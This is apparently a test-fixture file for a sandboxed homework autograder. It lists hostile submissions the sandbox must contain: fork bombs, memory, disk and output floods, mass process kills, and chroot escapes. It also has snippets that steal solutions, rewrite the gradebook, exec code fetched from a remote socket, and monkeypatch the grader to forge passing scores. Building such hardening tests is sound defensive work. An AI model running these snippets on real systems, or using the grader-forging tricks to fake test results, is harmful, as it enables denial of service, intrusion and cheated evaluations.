"""Answers that attack what runs them: floods, bombs, exits, theft, forgery. Limits end them, or they are in vain."""

from tests.grading.hostile.kit import COURSE, answer

SLOW = ("wall", "cpu")
"""What ends an endless loop: on a busy machine the clock, else the limit on processor time."""


# more than its share

answer(
    "endless_loop",
    *SLOW,
    text="""
while True: pass
""",
)
answer(
    "long_sleep",
    "wall",
    text="""
import time
time.sleep(3600)
""",
)
answer(
    "fork_bomb",
    *SLOW,
    "memory",
    text="""
import os
while True:
    try: os.fork()
    except OSError: pass
""",
)
answer(
    "fork_bomb_in_shell",
    *SLOW,
    "output",
    "memory",
    text="""
import os
os.system(':(){ :|:& };:')
while True: pass
""",
)
answer(
    "thread_bomb",
    *SLOW,
    "died",
    text="""
import threading, time
while True:
    try: threading.Thread(target=time.sleep, args=(99,)).start()
    except RuntimeError: pass
""",
)
answer(
    "program_bomb",
    *SLOW,
    text="""
import subprocess
while True:
    try: subprocess.Popen(['sleep', '99'])
    except OSError: pass
""",
)
answer(
    "all_the_memory",
    *SLOW,
    "",
    text="""
x = []
while True: x.append(bytearray(1 << 24))
""",
)
answer(
    "memory_of_many_processes",
    "memory",
    "wall",
    text="""
import os, time
for _ in range(20):
    if os.fork() == 0:
        x = bytearray(200 << 20)
        time.sleep(99)
time.sleep(99)
""",
)
answer(
    "shared_memory",
    *SLOW,
    "memory",
    "",
    text="""
import mmap
x = []
while True:
    x.append(mmap.mmap(-1, 1 << 24))
    x[-1].write(bytes(1 << 24))
""",
)
answer(
    "all_the_disk",
    *SLOW,
    text="""
n = 0
while True:
    n += 1
    try: open(f'{n}', 'wb').write(bytes(1 << 20))
    except OSError: pass
""",
)
answer(
    "one_large_file",
    text="""
open('x', 'wb').truncate(1 << 50)
""",
)
answer(
    "disk_by_shared_memory_folder",
    text="""
for n in range(10000): open(f'/dev/shm/{n}', 'wb').write(bytes(1 << 20))
""",
)
answer(
    "all_the_inodes",
    *SLOW,
    text="""
import os
n = 0
while True:
    n += 1
    try: os.mkdir(f'd{n}')
    except OSError: pass
""",
)
answer(
    "all_the_descriptors",
    text="""
x = []
while True: x.append(open('/dev/null'))
""",
)
answer(
    "flood_of_prints",
    "output",
    *SLOW,
    text="""
while True: print('x' * 10000)
""",
)
answer(
    "flood_past_python",
    "output",
    *SLOW,
    text="""
import os
while True: os.write(1, b'x' * 10000)
""",
)
answer(
    "flood_of_errors",
    "output",
    *SLOW,
    text="""
import sys
while True: sys.stderr.write('x' * 10000)
""",
)
answer(
    "flood_of_a_program",
    "output",
    *SLOW,
    text="""
import os
os.system('yes')
""",
)
answer(
    "flood_of_html",
    "output",
    *SLOW,
    text="""
from IPython.display import HTML, display
while True: display(HTML('x' * 10000))
""",
)
answer(
    "flood_of_warnings",
    "output",
    *SLOW,
    text="""
import warnings
warnings.simplefilter('always')
while True: warnings.warn('x' * 10000)
""",
)
answer(
    "one_large_output",
    "output",
    *SLOW,
    text="""
'x' * 10**8
""",
)
answer(
    "one_long_error",
    "output",
    *SLOW,
    text="""
raise ValueError('x' * 10**8)
""",
)
answer("compiler_bomb", text="x = " + "-" * 50_000 + "1")
answer(
    "large_power",
    *SLOW,
    text="""
10 ** 10 ** 9
""",
)
answer(
    "regular_expression_bomb",
    *SLOW,
    text="""
import re
re.match('(a+)+$', 'a' * 64 + 'b')
""",
)

# leaving, dying, staying

answer(
    "exit_at_once",
    "died",
    text="""
import os
os._exit(0)
""",
)
answer(
    "exit_politely",
    text="""
import sys
sys.exit(0)
""",
)
answer(
    "exit_by_name",
    text="""
exit()
""",
)
answer(
    "raise_system_exit",
    text="""
raise SystemExit
""",
)
answer(
    "raise_interrupt",
    text="""
raise KeyboardInterrupt
""",
)
answer(
    "raise_nameless",
    text="""
class E(BaseException):
    def __str__(self): raise self
    __repr__ = __str__
raise E
""",
)
answer(
    "kill_itself",
    "died",
    text="""
import os
os.kill(os.getpid(), 9)
""",
)
answer(
    "kill_the_parent",
    text="""
import os, time
os.kill(os.getppid(), 9)
time.sleep(1)
""",
)
answer(
    "kill_everybody",
    "",
    "died",
    text="""
import os
os.kill(-1, 9)
""",
)
answer(
    "kill_the_group",
    "died",
    *SLOW,
    text="""
import os
os.killpg(0, 9)
""",
)
answer(
    "abort",
    "died",
    text="""
import os
os.abort()
""",
)
answer(
    "segmentation_fault",
    "died",
    text="""
import ctypes
ctypes.string_at(0)
""",
)
answer(
    "stack_overflow",
    "died",
    *SLOW,
    "memory",
    "",
    text="""
import sys
sys.setrecursionlimit(10**9)
f = lambda: f()
x = []
for _ in range(10**6): x = [x]
repr(x)
""",
)
answer(
    "replace_itself",
    "protocol",
    "wall",
    text="""
import os
os.execlp('sleep', 'sleep', '99')
""",
)
answer(
    "deaf_to_signals",
    *SLOW,
    text="""
import signal
for n in range(1, 65):
    try: signal.signal(n, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass
""",
)
answer(
    "stays_as_a_daemon",
    text="""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: time.sleep(3600)
    os._exit(0)
""",
)
answer(
    "hangs_at_the_end",
    text="""
import atexit, time
atexit.register(time.sleep, 3600)
""",
)
answer(
    "closes_every_descriptor",
    "died",
    "protocol",
    *SLOW,
    text="""
import os
os.closerange(0, 1024)
""",
)
answer(
    "nonsense_to_the_grader",
    "protocol",
    "output",
    *SLOW,
    text="""
import os
for n in range(3, 20):
    try: os.write(n, b'\\xff' * 100)
    except OSError: pass
""",
)
answer(
    "huge_message_to_the_grader",
    "protocol",
    "output",
    *SLOW,
    text="""
import os
for n in range(3, 20):
    try: os.write(n, b'\\x7f\\xff\\xff\\xff')
    except OSError: pass
""",
)
answer(
    "deep_message_to_the_grader",
    "protocol",
    *SLOW,
    text="""
import os
m = b'[' * 60000
for n in range(3, 20):
    try: os.write(n, len(m).to_bytes(4, 'big') + m)
    except OSError: pass
""",
)
answer(
    "asks_for_input",
    text="""
input('password: ')
""",
)

# theft

answer(
    "runs_the_solutions",
    text=f"""
import json
for cell in json.load(open("{COURSE}/solutions/hw0/hw0.ipynb"))["cells"]:
    if cell["metadata"].get("nbgrader", {{}}).get("solution"):
        exec("".join(cell["source"]))
""",
)
answer(
    "searches_the_disk",
    "",
    *SLOW,
    text="""
import os
found = [f for top, _, names in os.walk('/') for f in names if 'hw0.ipynb' in f]
for f in found: exec(open(f).read())
raise SystemExit
""",
)
answer(
    "imports_the_reference",
    text="""
from utils.reference.losses import *
from utils.reference.losses import softmax as s
def softmax(theta, T): return s(theta / T)
""",
)
answer(
    "imports_torch",
    text="""
import torch
def softmax(theta, T): return torch.softmax(torch.tensor(theta) / T, 0).numpy()
""",
)
answer(
    "writes_the_gradebook",
    text=f"""
import sqlite3
for path in ("{COURSE}/grading/gradebook.db", "gradebook.db", "/gradebook.db"):
    try: sqlite3.connect(path).execute("update grade set manual_score = 99")
    except sqlite3.Error: pass
""",
)
answer(
    "opens_a_socket",
    text="""
import socket
exec(socket.create_connection(('192.0.2.1', 80), 1).recv(1 << 20))
""",
)
answer(
    "asks_a_name_server",
    text="""
import socket
socket.gethostbyname('example.org')
""",
)
answer(
    "listens_for_others",
    text="""
import socket
s = socket.create_server(('0.0.0.0', 0))
s.settimeout(.2)
s.accept()
""",
)
answer(
    "asks_the_fork_server",
    text="""
import glob, socket
for p in glob.glob('/tmp/grading-*/*.sock'):
    socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET).connect(p)
""",
)
answer(
    "reads_the_grader",
    text="""
import glob
for p in sorted(glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/mem')): open(p, 'rb').read(100)
""",
)
answer(
    "traces_the_grader",
    "",
    *SLOW,
    text="""
import ctypes
for pid in range(1, 40000): ctypes.CDLL(None).ptrace(16, pid, 0, 0)
""",
)
answer(
    "becomes_root",
    text="""
import os
for f in (os.setuid, os.setgid): f(0)
""",
)
answer(
    "mounts_the_disk",
    text="""
import ctypes
assert ctypes.CDLL(None).mount(b'/dev/vda', b'/tmp', b'ext4', 0, None) == 0
""",
)
answer(
    "leaves_its_root",
    text="""
import os
os.mkdir('r')
os.chroot('r')
for _ in range(50): os.chdir('..')
os.chroot('.')
""",
)
answer(
    "overwrites_python",
    text="""
import numpy, os
open(numpy.__file__, 'w').write('boom')
""",
)
answer(
    "reads_the_callers",
    text="""
import sys
def softmax(theta, T):
    f = sys._getframe()
    while f:
        for v in [*f.f_locals.values(), *f.f_globals.values()]:
            if getattr(v, 'shape', 0) == theta.shape and v is not theta: return v
        f = f.f_back
    return theta
""",
)

# forgery

answer(
    "patches_numpys_tests",
    text="""
import numpy as np
for n in dir(np.testing):
    if n.startswith('assert'): setattr(np.testing, n, lambda *a, **k: None)
np.allclose = np.isclose = lambda *a, **k: True
def softmax(theta, T): return theta
""",
)
answer(
    "patches_the_grader",
    text="""
import utils.grading.parts as p, utils.grading.compare as c
for n in dir(c):
    if callable(getattr(c, n)): setattr(c, n, lambda *a, **k: None)
p.Part.points = property(lambda s: 99.0)
def softmax(theta, T): return theta
""",
)
answer(
    "fakes_the_graders_modules",
    text="""
import sys, types
for n in list(sys.modules):
    if n.startswith('utils'): sys.modules[n] = types.ModuleType(n)
def softmax(theta, T): return theta
""",
)
answer(
    "hooks_ipython",
    text="""
ip = get_ipython()
run = type(ip).run_cell
type(ip).run_cell = lambda s, c, *a, **k: run(s, '5.0', *a, **k)
ip.events.register('pre_run_cell', lambda *a: exec('points = 99', ip.user_ns))
""",
)
answer(
    "rewrites_assertions",
    text="""
import ast
class T(ast.NodeTransformer):
    def visit_Assert(self, n): return ast.Pass()
get_ipython().ast_transformers.append(T())
get_ipython().input_transformers_cleanup.append(lambda lines: ['5.0\\n'])
""",
)
answer(
    "prints_points",
    text="""
print('5.0')
from IPython.display import display
display({'text/plain': '5.0'}, raw=True)
5.0
""",
)
answer(
    "equal_to_everything",
    text="""
import numpy as np
class E(np.ndarray):
    def __eq__(s, o): return np.ones(s.shape, bool)
    def __array_ufunc__(s, u, m, *a, **k): return np.zeros(s.shape)
def softmax(theta, T): return theta.view(E)
""",
)
answer(
    "answers_true",
    text="""
def softmax(theta, T): return True
""",
)
answer(
    "answers_nan",
    text="""
import numpy as np
def softmax(theta, T): return theta * np.nan
""",
)
answer(
    "answers_an_object",
    text="""
import numpy as np
class Boom:
    def __reduce__(s): return (exec, ('import os; os._exit(9)',))
def softmax(theta, T): return np.array([Boom()] * len(theta))
""",
)
answer(
    "answers_with_a_gigabyte",
    "",
    *SLOW,
    "memory",
    "output",
    text="""
import numpy as np
def softmax(theta, T): return np.zeros(1 << 26)
""",
)
answer(
    "answers_with_itself",
    text="""
def softmax(theta, T):
    x = []
    x.append(x)
    return x
""",
)
answer(
    "answers_for_ever",
    text="""
import itertools
def softmax(theta, T): return itertools.count()
""",
)
answer(
    "answers_half_a_character",
    text="""
def softmax(theta, T): return '\\ud800'
""",
)
answer(
    "hangs_when_called",
    "",
    *SLOW,
    text="""
def softmax(theta, T):
    while True: pass
""",
)
answer(
    "hangs_when_called_whatever_comes",
    "",
    *SLOW,
    "protocol",
    text="""
import time
def softmax(theta, T):
    while True:
        try: time.sleep(99)
        except BaseException: pass
""",
)
answer(
    "dies_when_called",
    "died",
    text="""
import os
def softmax(theta, T): os._exit(0)
""",
)
answer(
    "exits_when_called",
    text="""
def softmax(theta, T): raise SystemExit
""",
)
answer(
    "forks_when_called",
    "",
    *SLOW,
    "died",
    "protocol",
    text="""
import os
def softmax(theta, T):
    os.fork()
    return theta
""",
)
answer(
    "forges_an_answer_when_called",
    "",
    "protocol",
    *SLOW,
    text="""
import os
def softmax(theta, T):
    for n in range(3, 20):
        try: os.write(n, b'\\0\\0\\0\\x04true')
        except OSError: pass
    return theta
""",
)
answer(
    "floods_when_called",
    "output",
    *SLOW,
    "",
    text="""
def softmax(theta, T):
    while True: print('x' * 10000)
""",
)
answer(
    "changes_its_inputs",
    text="""
def softmax(theta, T):
    theta[:] = 0
    return theta
""",
)
answer(
    "replaces_the_caller",
    "",
    "died",
    *SLOW,
    text="""
import sys, builtins
for f in sys._current_frames().values():
    while f:
        f.f_globals['exec'] = f.f_globals['compile'] = print
        f = f.f_back
builtins.exec = builtins.compile = builtins.len = print
""",
)
